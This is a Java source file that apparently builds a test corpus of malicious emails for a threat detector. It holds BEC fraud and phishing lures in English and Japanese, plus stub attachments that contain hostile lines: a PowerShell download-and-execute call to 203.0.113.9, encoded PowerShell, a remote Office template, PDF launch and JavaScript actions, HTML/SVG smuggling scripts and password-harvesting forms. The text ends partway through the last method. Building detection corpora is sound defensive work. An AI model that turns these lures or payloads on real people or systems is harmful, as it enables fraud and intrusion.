package org.tegami.threat.corpus;

import static org.tegami.threat.corpus.CorpusFiles.*;

import java.net.IDN;
import java.util.LinkedHashMap;
import java.util.Map;

/** The malicious half of the corpus: BEC, phishing and malware deliveries in many styles. */
final class MaliciousCorpus {

    private static final String TO = "Sarah Johnson <sarah.johnson@northwind.com>";
    private static final String TO_JP = "=?UTF-8?B?5L2Q6Jek?= <hanako.sato@northwind.co.jp>";
    private static final String JIS = "ISO-2022-JP";

    private MaliciousCorpus() {}

    static Map<String, byte[]> all() {
        Map<String, byte[]> m = new LinkedHashMap<>();
        bec(m);
        becJapanese(m);
        phishing(m);
        attachments(m);
        office(m);
        techniques(m);
        return m;
    }

    private static void bec(Map<String, byte[]> m) {
        m.put("bec-ceo-giftcards", Eml.of("Akiko Tanaka <akiko.tanaka.ceo@gmail.com>", TO)
                .subject("Quick favour")
                .text("Hi Sarah,\n\nAre you at your desk? I need a quick favour. I am in a meeting and can't take calls.\n"
                        + "Please buy 5 Apple gift cards of $200 each for a client appreciation. Keep this between us for now,\n"
                        + "it is a surprise. Scratch the back and send me pictures of the cards as soon as possible.\n\nAkiko\nSent from my iPhone").build());
        m.put("bec-ceo-wire-combosquat", Eml.of("David Miller <david.miller@northwind-corp.com>", TO)
                .subject("Urgent wire transfer - confidential")
                .text("Sarah,\n\nI need you to process a wire transfer of USD 48,750 today to finalize a confidential acquisition.\n"
                        + "Do not discuss this with anyone else until the announcement. Beneficiary details below.\n\n"
                        + "Bank: First Harbor Bank\nIBAN: GB29 NWBK 6016 1331 9268 19\nSWIFT: FHBKGB2L\n\nConfirm once done.\nDavid").build());
        m.put("bec-ceo-lookalike-digit", Eml.of("Akiko Tanaka <akiko.tanaka@n0rthwind.com>", TO)
                .subject("Payment today")
                .text("Sarah, are you available? I need you to make a payment today before 3pm to a new supplier.\n"
                        + "I will send the invoice shortly. Akiko").build());
        m.put("bec-ceo-replyto-freemail", Eml.of("Akiko Tanaka <ceo@northwind-exec.com>", TO)
                .replyTo("akiko.tanaka.office@outlook.com")
                .subject("Request")
                .text("Do you have a moment? I have a sensitive task for you. Reply to this email only, I'm travelling.\n\nAkiko Tanaka\nCEO").build());
        m.put("bec-own-domain-spoof-dmarc-fail", Eml.of("David Miller <david.miller@northwind.com>", TO)
                .auth("mx.northwind.com; spf=fail smtp.mailfrom=northwind.com; dkim=none; dmarc=fail (p=reject dis=none) header.from=northwind.com")
                .replyTo("d.miller.cfo@protonmail.com")
                .subject("Outstanding payment")
                .text("Sarah,\n\nPlease settle the outstanding invoice from Apex Consulting urgently, by end of day.\n"
                        + "Wire the funds to the account in the attached note. I'm in meetings all day.\nDavid").build());
        m.put("bec-supplier-bankchange-typo", Eml.of("Contoso Accounts <accounts@contoso-suppiies.com>", TO)
                .subject("Updated bank details for your next payment")
                .text("Dear Customer,\n\nPlease note that our bank details have changed due to an internal audit.\n"
                        + "Kindly update your records and direct all future payments to the new account below:\n\n"
                        + "Account name: Contoso Supplies Ltd\nAccount number: 55021877\nSort code: 40-11-62\n\n"
                        + "The invoice INV-20931 is now overdue, please pay it to the new account as soon as possible.\n\nRegards,\nAccounts Receivable").build());
        m.put("bec-supplier-bankchange-suffix", Eml.of("Fabrikam Billing <billing@fabrikam.co>", TO)
                .replyTo("fabrikam.billing@gmail.com")
                .subject("Change of remittance details")
                .text("Hello,\n\nDue to a change of our bank, please use our new remittance details for invoice 7731.\n"
                        + "Our old account is under audit and can no longer accept payments.\nThank you.").build());
        m.put("bec-supplier-freemail-bankchange", Eml.of("Contoso Supplies <contoso.supplies.billing@outlook.com>", TO)
                .subject("Invoice payment - new account")
                .text("Good morning,\n\nWe have a new bank account for receiving payments. Please send the payment for the attached "
                        + "invoice to the new account details: IBAN DE89 3704 0044 0532 0130 00. It is urgent as the old account is closed.\n").build());
        m.put("bec-availability-vip-gmail", Eml.of("David Miller <davidmiller.office@gmail.com>", TO)
                .subject("Are you available?")
                .text("Are you available? I need you to handle something discreetly. Reply asap.\n\nDavid Miller\nCFO").build());
        m.put("bec-payroll-diversion", Eml.of("Sarah Johnson <sarah.johnson.nw@gmail.com>", "Emily Chen <emily.chen@northwind.com>")
                .subject("Direct deposit change")
                .text("Hi Emily,\n\nI changed my bank recently. Can you update my direct deposit to the new account details before the next payroll?\n"
                        + "Routing number 021000021, account number 883412907.\n\nThanks,\nSarah").build());
        m.put("bec-attorney-acquisition", Eml.of("Robert Hale <rhale@hale-legal-partners.com>", TO)
                .replyTo("robert.hale@hale-law-office.net")
                .subject("Confidential: project Harbor")
                .text("Dear Sarah,\n\nYour CEO asked me to contact you regarding a strictly confidential acquisition. Do not discuss this with "
                        + "anyone else in the company. We need you to arrange a wire transfer of EUR 96,400 to the escrow account today.\n"
                        + "I will send the banking instructions once you confirm.\n\nRobert Hale, Attorney at Law").build());
        m.put("bec-invoice-logistics-typo", Eml.of("Globex Billing <billing@globex-logistic.com>", TO)
                .subject("Overdue invoice GLX-4471 - final notice")
                .text("Dear client,\n\nOur records show invoice GLX-4471 is overdue. Please pay the invoice immediately.\n"
                        + "Please note our payment information has been updated; use the account number 7712 0093 11 at Coastal Bank.\n").build());
        m.put("bec-vendor-replyto-lookalike", Eml.of("Initech AR <ar@initech-software.com>", TO)
                .replyTo("ar@initech-softvvare.com")
                .subject("RE: license renewal payment")
                .text("Hi,\n\nFollowing up on the renewal: please note our new banking information for this payment. Our account "
                        + "is currently under review, so send the payment to the new account. Reply with the remittance once done.\n").build());
        m.put("bec-data-request-w2", Eml.of("David Miller <dmiller.northwind@gmail.com>", "Emily Chen <emily.chen@northwind.com>")
                .subject("W-2 forms")
                .text("Emily,\n\nI need the W-2 forms of all employees for a review with the auditors today. Send them as PDF to this address. "
                        + "Keep it confidential please.\n\nDavid").build());
        m.put("bec-address-in-display-name", Eml.of("\"akiko.tanaka@northwind.com\" <mailer@secure-docs-share.com>", TO)
                .subject("Invoice approval needed")
                .text("Please process the attached payment today. It was approved by me. Akiko").build());
        String idnNorthwind = IDN.toASCII("nоrthwind.com"); // Cyrillic о
        m.put("bec-idn-homograph-ceo", Eml.of("Akiko Tanaka <akiko.tanaka@" + idnNorthwind + ">", TO)
                .subject("gift cards")
                .text("Hi, I need you to get some Google Play gift cards for a client today. How soon can you get them? Akiko").build());
        m.put("bec-known-partner-dmarc-fail", Eml.of("Contoso Accounts <accounts@contoso-supplies.com>", TO)
                .auth("mx.northwind.com; spf=softfail smtp.mailfrom=contoso-supplies.com; dkim=fail header.d=contoso-supplies.com; dmarc=fail (p=quarantine) header.from=contoso-supplies.com")
                .subject("Bank account change")
                .text("Dear partner,\n\nPlease update our banking information: all payments should go to our new account at Meridian Bank. "
                        + "Account 4410 2231 0091. Thank you for your prompt attention.\n").build());
        m.put("bec-cfo-vvlookalike", Eml.of("David Miller <david.miller@northvvind.com>", TO)
                .subject("Transfer")
                .text("Sarah, I need you to send a transfer of 12,500 EUR to a new vendor right away. I'm boarding now, can't talk. Details to follow.").build());
        m.put("bec-mobile-number", Eml.of("Akiko Tanaka <akiko.tanaka.exec@yahoo.com>", TO)
                .subject("Task")
                .text("Hello Sarah, send me your cell phone number. I need you to complete a task for me urgently. I'm in a conference.").build());
    }

    private static void becJapanese(Map<String, byte[]> m) {
        m.put("bec-jp-ceo-utf8", Eml.of(Eml.addr("山田 太郎", "yamada.taro.ceo@gmail.com", "UTF-8"), TO_JP)
                .subject("至急のお願い", "UTF-8")
                .text("佐藤さん\n\n今お時間ありますか？至急お願いしたいことがあります。\n"
                        + "極秘の案件のため、他の社員には内密にしてください。本日中に取引先へ送金が必要です。\n\n山田", "UTF-8", "base64").build());
        m.put("bec-jp-ceo-iso2022", Eml.of(Eml.addr("山田太郎", "president@northwind-jp.com", JIS), TO_JP)
                .subject("極秘案件について", JIS)
                .text("佐藤様\n\n現在、極秘で買収案件を進めております。この件は誰にも言わないでください。\n"
                        + "本日15時までに以下の口座へ送金をお願いします。\n\n銀行名：東西銀行 本店\n口座番号：普通 1234567\n\n山田", JIS, "7bit").build());
        m.put("bec-jp-giftcard-lookalike", Eml.of(Eml.addr("山田 太郎", "taro.yamada@northwlnd.co.jp", "UTF-8"), TO_JP)
                .subject("お願い", "UTF-8")
                .text("お疲れ様です。会議中のため電話に出られません。\n取引先への贈答用に、ギフトカードを10枚購入してください。\n"
                        + "購入後、カードの番号を写真で送ってください。至急お願いします。", "UTF-8", "quoted-printable").build());
        m.put("bec-jp-supplier-bankchange-iso2022", Eml.of(Eml.addr("ファブリカム 経理部", "keiri@fabrikan.co.jp", JIS), TO_JP)
                .subject("【重要】振込先口座変更のお知らせ", JIS)
                .text("いつもお世話になっております。\n\nこの度、弊社の振込先口座を変更いたしました。\n"
                        + "今月分のお支払いより、新しい口座へお振込みくださいますようお願い申し上げます。\n"
                        + "旧口座は監査のため凍結されております。至急ご対応をお願いいたします。\n\n新口座：西東京銀行 普通 7654321", JIS, "7bit").build());
        m.put("bec-jp-supplier-freemail-utf8", Eml.of(Eml.addr("ファブリカム 鈴木", "fabrikam.suzuki@yahoo.co.jp", "UTF-8"), TO_JP)
                .subject("請求書のお支払いについて", "UTF-8")
                .text("いつもお世話になっております。\n口座変更に伴い、請求書のお支払いは新しい口座へお振込みください。\n"
                        + "大至急ご対応いただけますと幸いです。", "UTF-8", "base64").build());
        m.put("bec-jp-availability", Eml.of(Eml.addr("山田 太郎", "t.yamada.office@outlook.jp", "UTF-8"), TO_JP)
                .subject("確認", "UTF-8")
                .text("席にいますか？お願いしたいことがあります。LINEで連絡できますか？個人の携帯番号を教えてください。", "UTF-8", "8bit").build());
        m.put("bec-jp-own-domain-spoof", Eml.of(Eml.addr("山田 太郎", "taro.yamada@northwind.co.jp", JIS), TO_JP)
                .auth("mx.northwind.co.jp; spf=fail smtp.mailfrom=northwind.co.jp; dkim=none; dmarc=fail header.from=northwind.co.jp")
                .subject("送金依頼", JIS)
                .text("佐藤さん\n至急、以下の口座へ送金をお願いします。詳細は後ほど連絡します。他言無用でお願いします。", JIS, "7bit").build());
        m.put("bec-jp-credential-request", Eml.of(Eml.addr("情報システム部", "it-support@northwind-helpdesk.jp", "UTF-8"), TO_JP)
                .subject("パスワードの有効期限について", "UTF-8")
                .html("<p>お使いのアカウントのパスワードの有効期限が切れます。24時間以内に下記より本人確認を行ってください。</p>"
                        + "<p><a href=\"https://northwind-helpdesk.jp/login\">https://mail.northwind.co.jp/owa</a></p>", "UTF-8").build());
    }

    private static void phishing(Map<String, byte[]> m) {
        m.put("phish-m365-mismatch", Eml.of("Microsoft 365 <no-reply@m365-account-security.com>", TO)
                .subject("Your password expires today")
                .html("<p>Your Office 365 password expires today. To keep the same password, verify your account within 24 hours.</p>"
                        + "<p><a href=\"http://m365-verify.account-login.xyz/owa/?u=sarah\">https://login.microsoftonline.com</a></p>").build());
        m.put("phish-mailbox-full-combosquat", Eml.of("IT Helpdesk <helpdesk@northwind-it-support.com>", TO)
                .subject("Mailbox quota exceeded")
                .html("<p>Your mailbox is full. Incoming messages will be rejected. Validate your mailbox now to restore service.</p>"
                        + "<p><a href=\"https://northwind-it-support.com/quota\">Increase quota</a></p>").build());
        m.put("phish-paypal-digit", Eml.of("PayPal <service@paypa1.com>", TO)
                .subject("Your account has been limited")
                .html("<p>We noticed unusual activity. Your account has been suspended until you confirm your identity.</p>"
                        + "<p><a href=\"https://paypa1.com/signin\">Log in to restore access</a></p>").build());
        String idnPaypal = IDN.toASCII("pаypal.com"); // Cyrillic а
        m.put("phish-paypal-idn", Eml.of("PayPal Security <security@" + idnPaypal + ">", TO)
                .subject("Action required")
                .html("<p>Please verify your account information to avoid suspension.</p><p><a href=\"https://" + idnPaypal
                        + "/verify\">Verify now</a></p>").build());
        m.put("phish-apple-brand", Eml.of("Apple Support <support@appleid-verify-account.com>", TO)
                .subject("Your Apple ID has been locked")
                .html("<p>Your Apple ID was locked for security reasons. Unlock your account within 24 hours or it will be deleted.</p>"
                        + "<a href=\"https://appleid-verify-account.com/unlock\">Unlock now</a>").build());
        m.put("phish-jp-amazon", Eml.of(Eml.addr("Amazon.co.jp", "account-update@amazon-co-jp.security-check.net", "UTF-8"), TO_JP)
                .subject("【重要】アカウントが停止されました", "UTF-8")
                .html("<p>お客様のアカウントが一時停止されました。24時間以内に本人確認を行ってください。</p>"
                        + "<p><a href=\"http://amazon-co-jp.security-check.net/ap/signin\">https://www.amazon.co.jp/ap/signin</a></p>", "UTF-8").build());
        m.put("phish-jp-bank", Eml.of(Eml.addr("三井住友銀行", "info@smbc-direct-login.com", "UTF-8"), TO_JP)
                .subject("不正なアクセスを検知しました", "UTF-8")
                .html("<p>お客様の口座に不正なログインが検知されました。至急、以下よりお客様情報の確認をお願いします。</p>"
                        + "<p><a href=\"https://smbc-direct-login.com/auth\">ログインする</a></p>", "UTF-8").build());
        m.put("phish-jp-japanpost-iso2022", Eml.of(Eml.addr("日本郵便", "noreply@japanpost-delivery.top", JIS), TO_JP)
                .subject("お荷物のお届けについて", JIS)
                .text("お客様宛にお荷物のお届けにあがりましたが、宛先不明のため持ち帰りました。\n"
                        + "お客様情報の確認をお願いします。 http://japanpost-delivery.top/redeliver\n", JIS, "7bit").build());
        m.put("phish-docusign-combosquat", Eml.of("DocuSign <dse@docusign-envelope.net>", TO)
                .subject("Completed: Please review the contract")
                .html("<p>You have received a document to review and sign. Sign in to view the document.</p>"
                        + "<p><a href=\"https://docusign-envelope.net/view?id=8831\">REVIEW DOCUMENT</a></p>").build());
        m.put("phish-html-password-form", Eml.of("Document Share <share@files-transfer-portal.com>", TO)
                .subject("Sarah, a file was shared with you")
                .html("<p>Confirm your email password to view the shared file.</p><form action=\"https://collect.files-transfer-portal.com/p.php\" method=\"post\">"
                        + "<input type=\"email\" name=\"e\"><input type=\"password\" name=\"p\"><input type=\"submit\" value=\"View\"></form>").build());
        m.put("phish-ip-link-mismatch", Eml.of("Contoso Billing <billing@contoso-billing-center.com>", TO)
                .subject("Your invoice is ready")
                .html("<p>Your invoice is ready to download:</p><p><a href=\"http://185.23.44.12/inv.php?id=5531\">https://billing.contoso-supplies.com/invoices/5531</a></p>").build());
        m.put("phish-google-combosquat", Eml.of("Google Drive <drive-shares@google-docs-share.com>", TO)
                .subject("Shared document: Q3 budget")
                .html("<p>David Miller shared a document with you. Sign in to view it.</p>"
                        + "<a href=\"https://google-docs-share.com/d/q3budget\">Open in Docs</a>").build());
        m.put("phish-safelinks-wrapped", Eml.of("SharePoint Online <sharepoint@notifications-portal.net>", TO)
                .subject("Akiko Tanaka shared \"Salary review 2024.xlsx\"")
                .html("<p>Akiko Tanaka shared a file with you. Log in to view it.</p><p><a href=\"https://eur01.safelinks.protection.outlook.com/?url="
                        + "https%3A%2F%2Fnorthwind-sharepoint.com%2Fsites%2Fhr&amp;data=05\">Open</a></p>").build());
        m.put("phish-hr-benefits", Eml.of("HR Department <hr@northwind-benefits.com>", TO)
                .subject("Benefits enrollment closes today")
                .html("<p>Benefits enrollment closes today. Log in to confirm your selection with your company credentials.</p>"
                        + "<p><a href=\"https://northwind-benefits.com/enroll\">https://northwind.com/benefits</a></p>").build());
        m.put("phish-mfa-code", Eml.of("Kenji Watanabe <kenji.watanabe.nw@gmail.com>", TO)
                .subject("code")
                .text("Hi Sarah, I'm locked out while travelling. You will get a verification code on your phone now, please send me the verification code quickly.").build());
        m.put("phish-html-script-jsurl", Eml.of("Parcel Service <tracking@parcel-notice-center.com>", TO)
                .subject("Delivery failed")
                .html("<html><body onload=\"document.location='http://parcel-notice-center.com/x'\"><script>var a=1;</script>"
                        + "<p>Your parcel could not be delivered.</p><a href=\"javascript:void(location.href='http://parcel-notice-center.com/pay')\">Reschedule</a></body></html>").build());
        m.put("phish-meta-refresh", Eml.of("Voicemail <voicemail@vm-notify-service.com>", TO)
                .subject("New voicemail (0:42)")
                .html("<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://vm-notify-service.com/listen\"></head>"
                        + "<body><p>You have a new voicemail. Sign in to listen.</p></body></html>").build());
    }

    private static void attachments(Map<String, byte[]> m) {
        m.put("mal-zip-exe-double-ext", Eml.of("Accounts <accounts@bluewave-trading.com>", TO).subject("Invoice 2024-0611")
                .text("Please find the invoice attached.").attach("invoice_2024.zip", "application/zip", zip("invoice_2024.pdf.exe", pe())).build());
        m.put("mal-exe-disguised-pdf", Eml.of("Scanner <scanner@printhub-office.com>", TO).subject("Scanned document")
                .text("Scanned from MFP.").attach("scan_0611.pdf", "application/pdf", pe()).build());
        m.put("mal-js-attachment", Eml.of("Remittance <payments@greenfield-partners.com>", TO).subject("Remittance advice")
                .text("Attached is the remittance advice for your invoice.")
                .attach("Remittance_Advice.js", "application/javascript",
                        "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -enc SQBFAFgA\");".getBytes()).build());
        m.put("mal-vbs-in-zip", Eml.of("Orders <orders@sunrise-imports.com>", TO).subject("Purchase order 5521")
                .text("PO attached.").attach("PO_5521.zip", "application/zip",
                        zip("PO_5521.vbs", "Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"cmd.exe /c calc\"".getBytes())).build());
        m.put("mal-lnk-attachment", Eml.of("Shipping <shipping@cargo-tracking-desk.com>", TO).subject("Shipping documents")
                .text("See the shipping documents.").attach("Shipping_Documents.lnk", "application/octet-stream", lnk()).build());
        m.put("mal-lnk-in-zip-disguised", Eml.of("HR <hr@talent-recruit-agency.com>", TO).subject("Candidate CV")
                .text("CV of the candidate attached.").attach("CV.zip", "application/zip", zip("CV_Maria.pdf", lnk())).build());
        m.put("mal-iso-attachment", Eml.of("Orders <orders@eastline-supply.com>", TO).subject("Order details")
                .text("Order details in the attached file.").attach("Order_details.iso", "application/x-iso9660-image", iso("ORDER")).build());
        m.put("mal-img-disguised", Eml.of("Fax <fax@efax-delivery.net>", TO).subject("Incoming fax")
                .text("You received a fax.").attach("fax_0611.img", "application/octet-stream", iso("FAX")).build());
        m.put("mal-hta-attachment", Eml.of("Support <support@software-update-center.com>", TO).subject("Security update")
                .text("Run the attached update.").attach("update.hta", "application/hta",
                        "<html><head><hta:application id=\"u\"/><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></head></html>".getBytes()).build());
        m.put("mal-ps1-attachment", Eml.of("IT <it@corp-tools-service.com>", TO).subject("Install VPN client")
                .text("Run the script to install the VPN client.").attach("install_vpn.ps1", "text/plain",
                        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')".getBytes()).build());
        m.put("mal-jar-attachment", Eml.of("Payments <payments@trade-finance-desk.com>", TO).subject("Payment confirmation")
                .text("Payment confirmation attached.").attach("Payment_Confirmation.jar", "application/java-archive", jar()).build());
        m.put("mal-encrypted-zip-password-in-body", Eml.of("Accounts <accounts@harbor-freight-services.com>", TO).subject("Invoice")
                .text("Please see the attached invoice. The password is 8812.")
                .attach("Invoice_8812.zip", "application/zip", encryptedZip(Map.of("Invoice_8812.doc", docWithMacro()), "8812")).build());
        m.put("mal-encrypted-zip-jp", Eml.of(Eml.addr("経理部", "keiri@tozai-shoji.co.jp", "UTF-8"), TO_JP).subject("請求書送付の件", "UTF-8")
                .text("お世話になっております。請求書を送付いたします。\n解凍パスワード：Tz2024\nよろしくお願いいたします。", "UTF-8", "base64")
                .attach("請求書.zip", "application/zip", encryptedZip(Map.of("seikyusho.xlsx", xlsx(new String[][] {{"a"}})), "Tz2024")).build());
        m.put("mal-encrypted-zip-exe-name", Eml.of("Courier <courier@express-parcel-notify.com>", TO).subject("Delivery label")
                .text("Open the label with password: 4471")
                .attach("label.zip", "application/zip", encryptedZip(Map.of("label_4471.exe", pe()), "4471")).build());
        byte[] inner = zip("payload.exe", pe());
        byte[] middle = zip("docs.zip", inner);
        m.put("mal-nested-zip", Eml.of("Archive <archive@doc-exchange-hub.com>", TO).subject("Documents")
                .text("Documents attached.").attach("archive.zip", "application/zip", zip("level2.zip", middle)).build());
        m.put("mal-rtlo-name", Eml.of("Billing <billing@nordic-payments-group.com>", TO).subject("Invoice")
                .text("Invoice attached.").attach("invoice\u202Efdp.exe", "application/octet-stream", pe()).build());
        m.put("mal-padded-double-ext", Eml.of("Scan <scan@docscan-mail.com>", TO).subject("Scan")
                .text("Scan attached.").attach("Scan_0012.pdf                .scr", "application/octet-stream", pe()).build());
        m.put("mal-rar-exe", Eml.of("Logistics <logistics@pacific-freight-line.com>", TO).subject("Bill of lading")
                .text("BL attached.").attach("BL_8812.rar", "application/x-rar-compressed", rar4("BL_8812.exe", pe(), false)).build());
        m.put("mal-gz-exe", Eml.of("Reports <reports@quarterly-data-hub.com>", TO).subject("Report")
                .text("Report attached.").attach("report.pdf.gz", "application/gzip", gzip("report.pdf.exe", pe())).build());
        m.put("mal-elf-disguised", Eml.of("Ops <ops@server-monitor-alerts.com>", TO).subject("Log file")
                .text("See log.").attach("server.log", "application/octet-stream", elf()).build());
        m.put("mal-onenote", Eml.of("Accounts <accounts@westbridge-consult.com>", TO).subject("Invoice")
                .text("Please open the invoice.").attach("Invoice_5521.one", "application/onenote", onenote()).build());
        m.put("mal-svg-script", Eml.of("Voicemail <vm@cloud-voice-notify.com>", TO).subject("Voice message")
                .text("Voice message attached.").attach("voice_message.svg", "image/svg+xml",
                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location='https://cloud-voice-notify.com/l'</script></svg>".getBytes()).build());
        m.put("mal-html-attachment-form", Eml.of("Remittance <remit@payment-advice-portal.com>", TO).subject("Payment remittance")
                .text("Remittance attached.").attach("Payment_Remittance.html", "text/html",
                        ("<!DOCTYPE html><html><body><h3>Sign in with your email to view the remittance</h3>"
                                + "<form action=\"https://payment-advice-portal.com/c.php\" method=\"post\"><input name=\"u\">"
                                + "<input type=\"password\" name=\"p\"><button>View</button></form></body></html>").getBytes()).build());
        m.put("mal-zip-bomb", Eml.of("Data <data@bulk-export-service.com>", TO).subject("Export")
                .text("Export attached.").attach("export.zip", "application/zip", zeroBomb("export.csv", 64)).build());
        m.put("mal-macho-zip", Eml.of("Design <design@creative-assets-studio.com>", TO).subject("Design files")
                .text("Design files in the archive.").attach("designs.zip", "application/zip", zip("Designs.app/Contents/MacOS/Designs", macho())).build());
    }

    private static void office(Map<String, byte[]> m) {
        m.put("office-doc-macro", Eml.of("Accounts <accounts@meridian-trade-co.com>", TO).subject("Outstanding invoice")
                .text("Please see the attached invoice and enable content.").attach("Invoice_4471.doc", "application/msword", docWithMacro()).build());
        m.put("office-xls-macro", Eml.of("Payroll <payroll@hr-payroll-services.com>", TO).subject("Salary adjustments")
                .text("Salary adjustments attached.").attach("salary_2024.xls", "application/vnd.ms-excel", xlsWithMacro()).build());
        m.put("office-docm", Eml.of("Legal <legal@contract-review-desk.com>", TO).subject("Contract draft")
                .text("Please review the contract draft.").attach("Contract_draft.docm",
                        "application/vnd.ms-word.document.macroEnabled.12", docm("Enable macros to view the contract.")).build());
        m.put("office-xlsm", Eml.of("Finance <finance@quarterly-audit-group.com>", TO).subject("Audit workbook")
                .text("Audit workbook attached.").attach("audit.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", xlsm()).build());
        m.put("office-docm-renamed-docx", Eml.of("Tenders <tenders@procure-bid-portal.com>", TO).subject("Tender documents")
                .text("Tender documents attached.").attach("Tender.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docm("Tender")).build());
        m.put("office-remote-template", Eml.of("Conference <info@policy-forum-2024.org>", TO).subject("Invitation")
                .text("Invitation attached.").attach("Invitation.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        docxRemoteTemplate("http://203.0.113.20/template.dotm")).build());
        m.put("office-dde", Eml.of("Tenders <bids@gov-tender-notice.com>", TO).subject("Tender notice")
                .text("Tender notice attached.").attach("Notice.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docxDde()).build());
        m.put("office-macro-in-zip", Eml.of("Orders <orders@northstar-wholesale.com>", TO).subject("Order confirmation")
                .text("Order confirmation attached.").attach("order.zip", "application/zip", zip("order_confirmation.xlsm", xlsm())).build());
        m.put("pdf-javascript-openaction", Eml.of("Invoices <invoices@cloud-billing-notice.com>", TO).subject("Invoice")
                .text("Invoice attached.").attach("invoice.pdf", "application/pdf",
                        pdf("Invoice", "/OpenAction 5 0 R", "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://203.0.113.5/p'\\);) >>")).build());
        m.put("pdf-launch", Eml.of("Statements <statements@bank-statement-notice.com>", TO).subject("Statement")
                .text("Statement attached.").attach("statement.pdf", "application/pdf",
                        pdf("Statement", "/OpenAction 5 0 R", "<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")).build());
        m.put("pdf-js-objstm", Eml.of("Docs <docs@secure-pdf-share.com>", TO).subject("Document")
                .text("Document attached.").attach("document.pdf", "application/pdf",
                        pdf("Document", "/Names 6 0 R", flateStream("/Type /ObjStm /N 1 /First 4",
                                "6 0 << /JavaScript << /Names [(a) << /S /J#61vaScript /J#53 (this.exportDataObject\\({cName:'x'}\\)) >>] >> >>"))).build());
        m.put("pdf-embedded-exe", Eml.of("Support <support@device-driver-help.com>", TO).subject("Driver")
                .text("Driver attached.").attach("driver_manual.pdf", "application/pdf",
                        pdf("Manual", "/Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>",
                                "<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>",
                                "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")).build());
        m.put("rtf-object", Eml.of("Orders <orders@asia-pacific-trade.com>", TO).subject("Quotation")
                .text("Quotation attached.").attach("quotation.rtf", "application/rtf",
                        "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}}".getBytes()).build());
    }

    /** Delivery techniques of 2022-2024: HTML/SVG smuggling, QR codes, OneNote, 7-Zip, invitations, callbacks. */
    private static void techniques(Map<String, byte[]> m) {
        String smuggler = "<!DOCTYPE html><html><body><p>Loading your document...</p><script>"
                + "var p='UEsDBBQAAAAIAAAAIQ'+'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';var b=atob(p);var u=new Uint8Array(b.length);"
                + "for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}var f=new Blob([u],{type:'application/octet-stream'});"
                + "var a=document.createElement('a');a.href=URL.createObjectURL(f);a.download='Remittance_0612.zip';"
                + "document.body.appendChild(a);a.click();</script></body></html>";
        m.put("mal-html-smuggling", Eml.of("Payments <payments@remit-advice-center.com>", TO).subject("Remittance advice 0612")
                .text("Please open the attached remittance advice.").attach("Remittance_0612.html", "text/html", smuggler.getBytes()).build());
        String svgSmuggler = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"><script><![CDATA["
                + "var d=window.atob('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAA=');var n=new Uint8Array(d.length);"
                + "for(var i=0;i<d.length;i++)n[i]=d.charCodeAt(i);var o=URL.createObjectURL(new Blob([n]));"
                + "var l=document.createElementNS('http://www.w3.org/1999/xhtml','a');l.href=o;l.download='invoice.img';l.click();"
                + "]]></script></svg>";
        m.put("mal-svg-smuggling", Eml.of("Invoices <invoices@ledger-billing-hub.com>", TO).subject("Invoice image")
                .text("Invoice attached as an image.").attach("invoice_4471.svg", "image/svg+xml", svgSmuggler.getBytes()).build());
        m.put("mal-svg-onload", Eml.of("Fax Service <fax@efax-portal-notify.com>", TO).subject("Fax received (2 pages)")
                .text("Open the attached fax preview.").attach("fax_preview.svg", "image/svg+xml",
                        ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location.href='https://efax-portal-notify.com/v?u=sarah'\">"
                                + "<text x=\"10\" y=\"20\">Loading fax...</text></svg>").getBytes()).build());
        byte[] qr = image("png", 64, 64, 0x101010);
        m.put("phish-qr-m365", Eml.of("Microsoft Security <security-notice@mfa-reauth-center.com>", TO)
                .subject("Action required: re-authenticate your account")
                .html("<p>Your multi-factor authentication expires today.</p><p>Scan the QR code below with your phone camera to "
                        + "re-validate your account within 24 hours, or your mailbox will be suspended.</p><img src=\"cid:qr1\">")
                .attachInline("qr.png", "image/png", qr).build());
        m.put("phish-qr-helpdesk", Eml.of("Service Desk <servicedesk@corp-access-services.net>", TO)
                .subject("Password expiry notice")
                .text("Your password expires today. To keep the same password, scan the attached QR code with your mobile and confirm your "
                        + "credentials.\n\nService Desk").attach("secure_code.png", "image/png", qr).build());
        m.put("phish-qr-jp", Eml.of(Eml.addr("総務部 システム管理", "soumu@shain-portal-info.jp", "UTF-8"), TO_JP)
                .subject("【重要】本人確認のお願い", "UTF-8")
                .text("社員各位\n\nセキュリティ強化のため、添付のQRコードを読み取り、24時間以内に本人確認を行ってください。\n"
                        + "期限までに完了しない場合、アカウントが停止されます。", "UTF-8", "base64")
                .attach("qr.png", "image/png", qr).build());
        m.put("mal-onenote-in-zip", Eml.of("Accounts <accounts@harbourline-consult.com>", TO).subject("Outstanding invoice")
                .text("The invoice is in the attached archive.").attach("Invoice_8812.zip", "application/zip", zip("Invoice_8812.one", onenote())).build());
        m.put("mal-7z-encrypted-password", Eml.of("Shipping <shipping@oceanic-cargo-docs.com>", TO).subject("Shipping documents")
                .text("Dear customer,\n\nThe shipping documents are in the attached 7z archive, protected for your security.\n"
                        + "Archive password: 8841\n").attach("Shipping_Docs.7z", "application/x-7z-compressed", sevenZipEncrypted(96)).build());
        m.put("mal-7z-encrypted-jp", Eml.of(Eml.addr("東和商事 経理課", "keiri@towa-shoji-info.jp", "UTF-8"), TO_JP)
                .subject("請求書の件", "UTF-8")
